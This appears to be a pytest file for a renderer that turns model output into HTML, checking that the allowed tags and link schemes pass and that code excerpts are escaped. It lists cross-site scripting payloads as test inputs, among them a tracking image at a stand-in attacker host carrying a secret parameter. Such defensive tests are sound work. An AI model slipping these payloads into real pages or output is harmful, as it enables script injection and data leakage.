"""Model output as HTML: Markdown with highlighted code, and nothing that can run or fetch anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from appliance.console.render import code_html, finished_blocks, markdown_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "Hello <img src=x onerror=alert(1)> world",
        '<a href="javascript:alert(1)">x</a>',
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![tracker](http://evil.example/pixel.png?secret=1)",
        "<iframe src=//evil.example></iframe>",
        "```html\n<script>alert(1)</script>\n```",
        "```</code><script>alert(1)</script>\nx\n```",
        "<svg onload=alert(1)>",
    ],
)
def test_nothing_executable_or_fetching_survives(text: str) -> None:
    elements = Elements()
    elements.feed(markdown_html(text))
    for tag, attributes in elements.found:
        assert tag in SAFE_TAGS, (tag, text)
        for name, value in attributes:
            assert name in ("href", "class"), (tag, name, text)
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:", "#", "/")), (value, text)


SAFE_TAGS = {
    "p",
    "a",
    "strong",
    "em",
    "code",
    "pre",
    "span",
    "ul",
    "ol",
    "li",
    "blockquote",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "s",
}


class Elements(HTMLParser):
    """Every element and attribute the browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def test_markdown_renders_with_highlighted_code() -> None:
    html = markdown_html(
        "Use **this**:\n\n```python\ndef f(x):\n    return x < 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<strong>this</strong>" in html
    assert '<code class="language-python">' in html and '<span class="hl-k">def</span>' in html
    assert "&lt;" in html  # the comparison is escaped inside the highlighted code
    assert "<table>" in html
    assert 'href="https://example.com"' in markdown_html("[ok](https://example.com)")


def test_file_excerpts_are_escaped_and_highlighted() -> None:
    html = code_html('<script>alert("x")</script>\n', path="notes.html")
    assert "<script" not in html and "&lt;" in html and 'class="hl-' in html
    assert code_html("x < y", path="file.unknown-extension") == "x &lt; y\n"


def test_finished_blocks_end_at_blank_lines_outside_code_fences() -> None:
    answer = (
        "Intro line\nstill intro\n\n```python\ndef f():\n\n    return 1\n```\nafter the fence\n\nopen para"
    )
    cuts = [finished_blocks(answer[:n]) for n in range(len(answer) + 1)]
    assert sorted(set(cuts)) == [0, answer.index("```python"), answer.index("after"), answer.index("open")]
    assert cuts == sorted(cuts)  # a growing answer never un-finishes a block
    # Rendering the finished blocks one by one gives what rendering them together gives.
    first, second, third = 0, answer.index("after"), answer.index("open")
    assert markdown_html(answer[first:second]) + markdown_html(answer[second:third]) == markdown_html(
        answer[:third]
    )
    assert finished_blocks("~~~\ncode\n\n```\nstill code\n~~~\n") == len(
        "~~~\ncode\n\n```\nstill code\n~~~\n"
    )
    assert finished_blocks("no newline at all") == 0
